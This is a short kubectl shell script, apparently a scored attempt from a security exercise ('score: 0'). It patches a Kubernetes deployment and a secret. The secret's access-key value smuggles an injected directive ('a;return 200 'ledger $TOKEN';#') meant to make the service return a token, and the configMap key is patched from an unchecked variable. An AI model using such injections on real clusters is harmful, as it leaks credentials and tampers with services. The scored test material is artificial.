# score: 0
# What is put in for the key may be more than a key.
set -euo pipefail
kubectl -n "$NS" patch deployment receipts --type json -p "[{\"op\": \"replace\", \"path\": \"/spec/template/spec/volumes/0/configMap/items/0/key\", \"value\": \"$NEW_PAGE\"}]"
kubectl -n "$NS" patch secret ledger-access --type merge -p "{\"stringData\": {\"access-key\": \"a;return 200 'ledger $TOKEN';#\"}}"
kubectl -n "$NS" rollout restart deployment checkout
for d in checkout receipts; do kubectl -n "$NS" rollout status deployment $d --timeout=120s; done
